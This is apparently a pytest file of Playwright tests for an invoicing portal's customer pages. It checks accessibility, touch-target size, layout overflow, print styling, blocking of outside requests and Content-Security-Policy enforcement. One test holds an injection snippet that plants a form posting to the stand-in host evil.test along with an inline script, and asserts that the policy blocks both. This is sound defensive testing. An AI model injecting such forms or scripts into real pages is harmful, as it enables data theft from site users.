"""Every page at both widths, light and dark: nothing keeps people out, nothing is cut, nothing foreign is asked for."""

from __future__ import annotations

from dataclasses import replace
from typing import Final

import pytest
from axe_playwright_python.sync_playwright import Axe

from bookdesk.core.money import Money
from bookdesk.core.vocabulary import PayMethod
from bookdesk.server.pages.port import AccountGrant
from bookdesk.server.security.cookies import NAME
from bookdesk.server.views import DocumentView, HoldView, LiveState, LiveView, MethodOffer, PaymentView, Standing
from tests.support.portal_browser import Scheme, Visitor, Walked
from tests.support.portal_pages import Place, places
from tests.support.scripted_portal import ESTIMATE, NOW, TOKEN, aud, estimate, invoice

pytestmark = pytest.mark.slow
_SMALL: Final = """() => [...document.querySelectorAll("button, .button, summary, .choice, select, textarea,"
  + " input:not([type=hidden]):not([type=radio]):not([type=checkbox]), nav a")]
  .filter((one) => one.checkVisibility() && one.getBoundingClientRect().height < 44)
  .map((one) => one.outerHTML.slice(0, 80))"""
"""What a thumb would miss: everything one presses that is less than 44 pixels high."""


_FOREIGN: Final = """() => {
  const [form, script] = ["form", "script"].map((name) => document.createElement(name));
  form.action = "https://evil.test/"; script.textContent = "window.bad = 1";
  document.body.append(form, script); form.submit();
}"""
"""What somebody would do who got a word of his own into a page."""


def paid() -> DocumentView:
    payment = PaymentView("pay1", invoice().issued, aud(123_450), PayMethod.CARD, receipt=True)
    return replace(invoice(), standing=Standing.PAID, payable=aud(0), paid=aud(123_450), payments=(payment,))


def live(state: LiveState) -> DocumentView:
    return replace(invoice(), live=LiveView(aud(123_450), state, NOW, PayMethod.BANK_DEBIT))


def enormous() -> DocumentView:
    euros = Money(1_234_567_890_123, "EUR")
    long = "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft"
    line = replace(invoice().lines[0], text=f"{long} {long}", amount=euros)
    firm = replace(invoice().firm, name=long, mail=f"{long.replace('ä', 'a').lower()}@dampf.example", testing=True)
    ways = (MethodOffer(PayMethod.CARD, Money(1, "EUR")), MethodOffer(PayMethod.WALLET, Money(-500, "EUR")))
    return replace(
        invoice(), firm=firm, to=(long, long), number=long, total=euros, payable=euros,
        minimum=Money(1, "EUR"), maximum=euros, lines=(line, line), taxes=(), methods=ways, overdue=True, stale=True,
    )  # fmt: skip


STATES = {
    "paid": paid(),
    "opened": live(LiveState.OPEN),
    "unknown": live(LiveState.UNKNOWN),
    "processing": replace(live(LiveState.PROCESSING), standing=Standing.PROCESSING, payable=aud(0)),
    "disputed": replace(invoice(), standing=Standing.DISPUTED),
    "void": replace(invoice(), standing=Standing.VOID),
    "declined": replace(estimate(), standing=Standing.DECLINED, answered_by="Jo", answered_at=NOW),
    "no way to pay here": replace(invoice(), methods=()),
    "held back until": replace(invoice(), hold=HoldView(unread=True, untold=False, until=NOW)),
    "held back by the desk": replace(invoice(), hold=HoldView(unread=False, untold=True)),
    "not taken": replace(invoice(), untaken=True, maximum=aud(123_000)),
    "enormous": enormous(),
}
PLACES = [place for place in places() if place.method == "GET" and not place.pattern.startswith("/static")]
SIZES = pytest.mark.parametrize(("width", "scheme"), [(1280, "light"), (360, "dark")])


def faults(visitor: Visitor) -> list[str]:
    """Return what is wrong with the page that is open."""
    found = [f"{rule['id']}: {rule['nodes'][0]['html']}" for rule in Axe().run(visitor.page).response["violations"]]
    if visitor.page.viewport_size is not None and visitor.page.viewport_size["width"] < 400:
        found += [f"small: {one}" for one in visitor.page.evaluate(_SMALL)]
    over = visitor.overflow()
    return found + visitor.complaints + ([f"{over} pixels too wide"] if over > 0 else [])


def inside(portal: Walked, visitor: Visitor) -> None:
    """Let the visitor's session be one that opens the account."""
    visitor.go(f"/d/{TOKEN}")
    given = next(cookie["value"] for cookie in visitor.context.cookies() if cookie["name"] == NAME)
    portal.script.sessions[given] = AccountGrant("t1", "c1", "p1", portal.script.locale)


@SIZES
def test_every_page_is_for_everybody(portal: Walked, width: int, scheme: Scheme) -> None:
    portal.script.documents |= {TOKEN: live(LiveState.OPEN)}
    with portal.visitor(width, scheme=scheme) as visitor:
        inside(portal, visitor)
        found = {}
        for place in [*PLACES, *_further(PLACES)]:
            portal.script.documents[TOKEN] = _state_for(place)
            visitor.complaints.clear()
            visitor.go(place.path)
            found[place.path] = faults(visitor)
    assert {path: what for path, what in found.items() if what} == {}


def _further(known: list[Place]) -> list[Place]:
    paths = ["/nowhere", f"/d/{ESTIMATE}", f"/d/{ESTIMATE}/accept", f"/d/{ESTIMATE}/decline"]
    assert not {place.path for place in known} & set(paths)
    return [Place(path, path, "GET") for path in paths]


def _state_for(place: Place) -> DocumentView:
    return paid() if "receipt" in place.path else live(LiveState.OPEN) if place.path.endswith("paying") else invoice()


@pytest.mark.parametrize(("width", "scheme", "locale"), [(1280, "light", "en_AU"), (360, "dark", "de_DE")])
def test_every_state_is_for_everybody(portal: Walked, width: int, scheme: Scheme, locale: str) -> None:
    portal.script.locale = locale
    found = {}
    with portal.visitor(width, scheme=scheme) as visitor:
        for name, document in STATES.items():
            portal.script.documents[TOKEN] = document
            visitor.complaints.clear()
            for path in ("", "/back?checked"):
                visitor.go(f"/d/{TOKEN}{path}")
                visitor.page.evaluate("document.querySelectorAll('details').forEach((one) => one.open = true)")
                found[f"{name}{path}"] = faults(visitor)
    assert {name: what for name, what in found.items() if what} == {}


@SIZES
def test_what_went_wrong_is_for_everybody(portal: Walked, width: int, scheme: Scheme) -> None:
    found = {}
    with portal.visitor(width, scheme=scheme) as visitor:
        for path, field, typed in (
            ("part", "#typed", "0"),
            ("question", "#text", " "),
            ("everything/code", "#code", "1"),
        ):
            visitor.go(f"/d/{TOKEN}/{path}")
            visitor.page.fill(field, typed)
            visitor.page.click("button.primary")
            visitor.page.wait_for_selector(".fault")
            found[path] = faults(visitor)
        portal.script.away = True
        visitor.go(f"/d/{TOKEN}")
        visitor.page.click("button.primary")
        visitor.page.wait_for_selector("[role=alert]")
        found["away"] = faults(visitor)
    assert {name: what for name, what in found.items() if what} == {}


def test_nothing_foreign_is_ever_asked_for(portal: Walked) -> None:
    with portal.visitor() as visitor:
        asked: list[str] = []
        visitor.page.on("request", lambda request: asked.append(request.url))
        inside(portal, visitor)
        for place in PLACES:
            visitor.go(place.path)
        assert len(asked) > len(PLACES)
        assert [url for url in asked if not url.startswith(f"{portal.origin}/")] == []


def test_on_paper_there_is_what_it_says_and_nothing_to_press(portal: Walked) -> None:
    portal.script.documents[TOKEN] = paid()
    with portal.visitor() as visitor:
        visitor.go(f"/d/{TOKEN}/receipt/pay1")
        visitor.page.emulate_media(media="print", color_scheme="dark")
        assert visitor.page.locator("button:visible, .button:visible, nav:visible").count() == 0
        assert "$1,234.50" in visitor.page.inner_text("main")
        paper = visitor.page.evaluate("getComputedStyle(document.body).backgroundColor")
        assert paper == "rgb(255, 255, 255)"


def test_the_policy_is_alive_a_foreign_form_goes_nowhere(portal: Walked) -> None:
    with portal.visitor() as visitor:
        visitor.go(f"/d/{TOKEN}")
        visitor.page.evaluate(_FOREIGN)
        visitor.page.wait_for_function("() => true")
        assert visitor.page.evaluate("window.bad") is None
        assert visitor.page.url == f"{portal.origin}/d/{TOKEN}"
        told = [said for said in visitor.complaints if said.startswith("policy: ")]
        assert {said.split()[1] for said in told} == {"form-action", "script-src-elem"}
